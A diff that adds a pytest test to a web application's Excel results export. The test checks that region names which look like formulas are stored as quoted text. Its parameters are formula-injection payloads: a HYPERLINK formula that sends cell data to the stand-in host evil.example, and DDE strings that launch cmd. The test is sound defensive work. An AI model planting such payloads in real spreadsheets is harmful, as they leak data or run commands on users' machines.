@@ -69,6 +69,18 @@ def test_results_chart_ranking_and_excel(client, scored):
                     (2, TIANJIN, "天津市", 55, "D", "否", "书面整改")]
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_the_excel_export_writes_a_formula_looking_region_name_as_text(client, scored, engine, name):
+    with engine.store.write() as session:
+        session.get(Region, BEIJING).name = name
+    login(client, "lead_agency")
+    sheet = load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data)).active
+    cell = next(row[2] for row in sheet.iter_rows(min_row=3) if row[1].value == BEIJING)
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
+    assert sheet.cell(3, 4).data_type == "n" and not sheet.cell(3, 2).quotePrefix  # the rest stays as it was
+
+
 def test_recipients_read_results_only_once_announced(client, scored):
     login(client, "recipient")
     assert client.get(f"/campaigns/{scored.campaign.id}/results").status_code == 403
